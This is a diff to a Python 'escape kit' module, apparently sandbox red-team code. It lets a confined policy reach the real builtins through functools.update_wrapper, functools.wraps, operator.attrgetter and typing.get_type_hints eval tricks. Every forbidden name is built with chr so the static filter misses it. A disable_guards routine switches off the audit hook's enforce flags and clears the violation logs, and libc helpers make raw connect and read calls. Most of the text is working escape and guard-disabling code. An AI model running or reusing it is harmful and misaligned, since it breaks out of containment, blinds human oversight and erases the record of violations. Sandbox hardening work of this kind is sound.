@@ -1,24 +1,27 @@
 """Escape kit, the first part of every attack that needs the real interpreter.
 
-A policy that wants out of the sandbox's namespace needs the real ``builtins`` module. This
-kit knows five routes to it, tries them in turn and keeps the first that works:
+A policy that wants out of the sandbox's namespace needs the real ``builtins`` module. The
+static filter refuses special and private attribute names, ``getattr``, and the library
+functions that read attributes by name (``operator.attrgetter``, ``functools.update_wrapper``)
+in the source, so the kit names all of them at run time, built with ``chr``, and tries:
 
-- ``functools.update_wrapper`` reads attributes by name: asked to "update" this policy's
-  special ``globals`` attribute from a library function's, it merges that module's globals (which hold
-  ``sys``) into the policy's own, where ``sys`` is then a plain name;
-- ``operator.attrgetter`` / ``methodcaller`` with special names built at run time (the
-  review's finding): a library function's special ``globals`` attribute, or the ``object`` subclass walk
-  to ``os._wrap_close``;
-- ``typing.get_type_hints`` evaluates string annotations with ``eval`` in a namespace that
-  receives the real builtins;
-- the review's finding on module views: a view keeps the real module in ``_target``.
+- ``functools.update_wrapper`` and ``functools.wraps``: asked to "update" a function's special
+  ``globals`` attribute from a library function's, they merge that module's globals into the
+  policy's own, where ``sys`` is then a plain name (this worked, silently, until they left the
+  policy API);
+- ``operator.attrgetter`` on a library function's special ``globals`` attribute (the review's
+  finding);
+- ``typing.get_type_hints``, which evaluates string annotations with ``eval`` in a namespace that
+  receives the real builtins, and hands back what the string names.
 
-Then :func:`disable_guards` walks the closures reachable from the signal handlers and from
-this policy's own builtins, switches off every guard switch it finds (a dict with an
-``enforce`` key, as the audit hook's was), and clears the violation logs it can reach.
+The library functions are fetched with :func:`lookup`, itself an annotation evaluated by
+``typing``. The first route that works is kept (``KIT``). Then :func:`disable_guards` walks the
+closures reachable from the signal handlers and from the policy's own builtins, switches off
+every guard switch it finds (a dict with an ``enforce`` key, as the first sandbox's audit hook
+had), and clears the violation logs it can reach (lists of strings). The helpers at the end call
+libc directly (``c_connect``, ``c_create``, ``c_read``) for a worker that cannot import a module.
 
-Every special or private name is built at run time with ``chr``, so the static filter sees
-none (the point of the attack). Nothing here acts on the host: the attacks that follow do.
+Nothing here acts on the host: the attacks that follow do.
 """
 
 import functools
@@ -39,23 +42,34 @@ def sink():
     return None
 
 
+def lookup(owner, name):
+    """``owner.name`` for a name the source may not spell: an annotation that ``typing`` evaluates."""
+
+    class Box:
+        value: "owner." + name
+
+    return typing.get_type_hints(Box, globalns={"owner": owner, "name": name})["value"]
+
+
+def merged_sys(merge):
+    """After ``merge`` put a library module's globals into this policy's, ``sys`` is a plain name."""
+    merge()
+    return sys  # noqa: F821
+
+
 def via_update_wrapper():
-    functools.update_wrapper(sink, statistics.mean, assigned=(), updated=(dunder("globals"),))
-    return sys.modules["builtins"]  # noqa: F821 - merged into this policy's globals just above
+    updater = lookup(functools, "update" + U + "wrapper")
+    return merged_sys(lambda: updater(sink, statistics.mean, (), (dunder("globals"),))).modules["builtins"]
+
+
+def via_wraps():
+    wrapper = lookup(functools, "wr" + "aps")
+    return merged_sys(lambda: wrapper(statistics.mean, (), (dunder("globals"),))(sink)).modules["builtins"]
 
 
 def via_attrgetter():
-    module_globals = operator.attrgetter(dunder("globals"))(statistics.mean)
+    module_globals = lookup(operator, "attr" + "getter")(dunder("globals"))(statistics.mean)
     return module_globals["sys"].modules["builtins"]
-
-
-def via_subclasses():
-    base = operator.attrgetter(dunder("class") + "." + dunder("base"))(())
-    for cls in operator.methodcaller(dunder("subclasses"))(base):
-        if operator.attrgetter(dunder("name"))(cls) == "_wrap_close":
-            os_globals = operator.attrgetter(dunder("init") + "." + dunder("globals"))(cls)
-            return os_globals["sys"].modules["builtins"]
-    return None
 
 
 def via_type_hints():
@@ -66,30 +80,23 @@ def via_type_hints():
     return real_import("builtins")
 
 
-def via_view_target():
-    real_helpers = operator.attrgetter(U + "target")(helpers)
-    return operator.attrgetter(dunder("builtins"))(real_helpers)
-
-
-ROUTES = (via_update_wrapper, via_attrgetter, via_subclasses, via_type_hints, via_view_target)
-
-
 def real_builtins():
     """The real builtins module, or None when every route is closed."""
     if "builtins" in KIT:
         return KIT["builtins"]
-    for route in ROUTES:
+    for route in (via_update_wrapper, via_wraps, via_attrgetter, via_type_hints):
         try:
             found = route()
-            if isinstance(found, dict):
-                found = found[dunder("import")]("builtins")
             if found is not None:
                 KIT["builtins"] = found
-                KIT["route"] = route
                 return found
         except Exception:
             pass
     return None
+
+
+def real_getattr(obj, name):
+    return real_builtins().getattr(obj, name)
 
 
 def real_import(name):
@@ -100,7 +107,7 @@ def real_import(name):
     return found.getattr(found, dunder("import"))(name, None, None, ("*",), 0)
 
 
-def closure_values(root, real_getattr, ident, seen):
+def closure_values(root, get, ident, seen):
     """Every value reachable from ``root`` through closures and bound methods."""
     stack = [root]
     while stack:
@@ -110,16 +117,16 @@ def closure_values(root, real_getattr, ident, seen):
         seen.add(ident(item))
         for name in (dunder("func"), dunder("self")):
             try:
-                stack.append(real_getattr(item, name))
+                stack.append(get(item, name))
             except Exception:
                 pass
         try:
-            cells = real_getattr(item, dunder("closure")) or ()
+            cells = get(item, dunder("closure")) or ()
         except Exception:
             cells = ()
         for cell in cells:
             try:
-                value = real_getattr(cell, "cell_contents")
+                value = get(cell, "cell_contents")
             except Exception:
                 continue
             yield value
@@ -133,7 +140,6 @@ def disable_guards():
     found = real_builtins()
     if found is None:
         return 0
-    real_getattr = found.getattr
     signal = real_import("signal")
     roots = []
     for number in range(1, 32):
@@ -142,14 +148,14 @@ def disable_guards():
         except Exception:
             pass
     try:
-        own = operator.attrgetter(dunder("globals"))(policy)[dunder("builtins")]
+        own = real_getattr(policy, dunder("globals"))[dunder("builtins")]
         roots.extend(own.values())
     except Exception:
         pass
     switched = 0
     seen = set()
     for root in roots:
-        for value in closure_values(root, real_getattr, found.id, seen):
+        for value in closure_values(root, found.getattr, found.id, seen):
             if isinstance(value, dict) and "enforce" in value:
                 value["enforce"] = False
                 value["armed"] = False
